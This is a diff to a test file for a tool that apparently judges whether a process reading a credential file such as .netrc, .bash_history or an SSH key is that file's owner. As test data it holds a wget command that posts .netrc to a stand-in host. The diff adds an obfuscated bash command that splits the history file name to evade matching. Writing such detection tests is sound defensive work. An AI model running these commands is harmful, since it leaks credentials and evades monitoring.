@@ -37,6 +37,7 @@ describe('a program that reads its own credentials', () => {
       '/home/user/.netrc',
       'git-remote-https',
     ],
+    ['a shell', [executed('/usr/bin/bash', 'bash -i')], '/home/user/.bash_history', 'bash'],
     ['ssh', [executed('/usr/bin/ssh', 'ssh host uptime')], '/home/user/.ssh/id_ed25519', 'ssh'],
   ] as const)('is known: %s', (_, events, target, owner) => {
     expect(ownerAfter(events, target)).toBe(owner);
@@ -60,6 +61,11 @@ describe('a program that reads its own credentials', () => {
       'one that was told to',
       [executed('/usr/bin/wget', 'wget --post-file=.netrc http://x.example')],
       '/home/user/.netrc',
+    ],
+    [
+      'a shell that was handed a command',
+      [executed('/usr/bin/bash', "bash -c 'n=story; cat <~/.bash_hi$n'")],
+      '/home/user/.bash_history',
     ],
     ['what is not its own', NPM, '/home/user/.ssh/id_rsa'],
   ] as const)('is not %s', (_, events, target) => {
